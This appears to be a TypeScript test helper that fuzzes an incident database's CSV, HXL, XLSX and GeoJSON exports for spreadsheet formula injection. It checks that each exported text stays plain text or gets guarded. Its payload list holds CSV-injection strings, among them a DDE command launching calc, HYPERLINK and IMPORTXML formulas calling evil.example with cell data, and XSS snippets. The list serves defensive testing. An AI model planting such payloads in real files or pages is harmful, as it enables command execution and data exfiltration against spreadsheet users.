/**
 * G11 of TRUST.md: text that a spreadsheet would run. Each goes through every export, is read again by readers that are
 * not ours, and must be a text there, the very one, guarded where the format cannot tell text from formula.
 */
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import type { Incident } from '../../src/incidents/contract.ts';
import { IncidentInput } from '../../src/incidents/contract.ts';
import { EXPORT_HEADERS, EXPORT_HXL_TAGS, toRow } from '../../src/incidents/export-columns.ts';
import { writeRows } from '../../src/platform/files/index.ts';
import { chance } from './files-random.ts';

const BEFORE = ['', ' ', '\t', '\r\n', '\u00a0', '\u200b', '\ufeff', "'", "''", '"', '\u202e'] as const;
const STARTS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '\u2212', '\t', '\r', '\n', '%', '|'] as const;
const AFTER = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://evil.example/?x="&A1,"see")',
  'SUM(1+1)*cmd',
  'IMPORTXML("http://evil.example","//a")',
  '2+5;DDE("x";"y")',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '',
  '1',
  'x,y"z\n=1',
] as const;

/** The texts of this seed, in order. */
export function nastyTexts(seed: number, count: number): string[] {
  const random = chance(seed);
  return Array.from({ length: count }, () => random.pick(BEFORE) + random.pick(STARTS) + random.pick(AFTER));
}

/** What a spreadsheet takes for a formula: the marks that OWASP names, after whatever a spreadsheet skips. */
const RUNS = /^[\s\p{Cf}\p{Zs}]*[=+\-@＝＋－＠\u2212\t\r\n]/u;

/** Columns of a record that hold free text, and how many a row has. */
const FIELDS = [
  'title',
  'place',
  'place_description',
  'narrative',
  'notes',
  'status_note',
  'source_type',
  'tags',
] as const;
const TEXTS_PER_ROW = FIELDS.length;

function rowOf(texts: readonly string[], n: number): Incident {
  const [title, name, description, narrative, notes, statusNote, sourceType, tag = ''] = texts;
  const {
    account,
    protected: _none,
    ...input
  } = IncidentInput.parse({
    id: `00000000-0000-4000-8000-${n.toString(16).padStart(12, '0')}`,
    core: {
      ...{ kind: 'incident', type: 'attack_on_civilians', title, statusNote },
      when: { from: '2030-01-01', to: '2030-01-01', precision: 'day' },
      where: { point: [21, 6], precision: 'near', name, description },
      origin: { dataset: 'own', sourceType },
    },
    account: { narrative, notes },
  });
  const stamp = { version: 1, knownFrom: { seq: 1, at: '2030-01-01T00:00:00.000Z' }, knownTo: null, verb: 'x' };
  // A tag is trimmed by the contract; here it is to be as nasty as the rest.
  const core = { ...input.core, tags: [tag] };
  return { ...input, ...stamp, core, ...(account && { account }), by: 'x', byName: null, erased: false };
}

/** Workbooks spell control characters in a way of their own (ISO 29500, ST_Xstring), which this reader leaves as it is. */
export const plainText = (value: unknown): unknown =>
  typeof value === 'string'
    ? value.replaceAll(/_x([0-9A-F]{4})_/g, (_, code: string) => String.fromCharCode(Number.parseInt(code, 16)))
    : value;

/** @returns a sentence for each text that could run, or came out as another */
export async function exportNasty(texts: readonly string[]): Promise<string[]> {
  const rows = Array.from({ length: Math.ceil(texts.length / TEXTS_PER_ROW) }, (_, n) =>
    texts.slice(n * TEXTS_PER_ROW, (n + 1) * TEXTS_PER_ROW),
  );
  const out = rows.map((row, n) => ({ cells: toRow(rowOf(row, n)), point: null }));
  const written = async (format: 'csv' | 'xlsx' | 'geojson', hxlTags?: Readonly<Record<string, string>>) =>
    Buffer.concat(
      await Array.fromAsync(writeRows(format, out, { headers: EXPORT_HEADERS, ...(hxlTags && { hxlTags }) })),
    );
  const wrong: string[] = [];
  const expect = (format: string, n: number, found: (field: (typeof FIELDS)[number]) => unknown, guarded: boolean) => {
    for (const [f, field] of FIELDS.entries()) {
      const sent = rows[n]?.[f];
      if (sent === undefined) continue;
      const cell = found(field);
      if (typeof cell !== 'string')
        wrong.push(`${format}, ${field}: ${JSON.stringify(sent)} is no text but ${typeof cell}`);
      else if (guarded && RUNS.test(cell)) wrong.push(`${format}, ${field}: ${JSON.stringify(cell)} would run`);
      else if (cell !== sent && !(guarded && cell === `'${sent}`))
        wrong.push(`${format}, ${field}: ${JSON.stringify(sent)} came out as ${JSON.stringify(cell)}`);
    }
  };
  for (const format of ['csv', 'hxl'] as const) {
    const bytes = await written('csv', format === 'hxl' ? EXPORT_HXL_TAGS : undefined);
    const read: Record<string, string>[] = parse(bytes, { bom: true, columns: true });
    const rowsOnly = format === 'hxl' ? read.slice(1) : read;
    for (const [n, cells] of rowsOnly.entries()) expect(format, n, (field) => cells[field], true);
    if (rowsOnly.length !== rows.length) wrong.push(`${format}: ${rowsOnly.length} rows of ${rows.length}`);
  }
  const { features } = JSON.parse(String(await written('geojson'))) as {
    features: { properties: Record<string, unknown> }[];
  };
  for (const [n, { properties }] of features.entries()) expect('geojson', n, (field) => properties[field], false);
  const book = new ExcelJS.Workbook();
  await book.xlsx.load((await written('xlsx')) as never);
  const sheet = book.worksheets[0];
  for (const n of rows.keys())
    expect(
      'xlsx',
      n,
      (field) => plainText(sheet?.getRow(n + 2).getCell(EXPORT_HEADERS.indexOf(field) + 1).value),
      false,
    );
  return wrong;
}
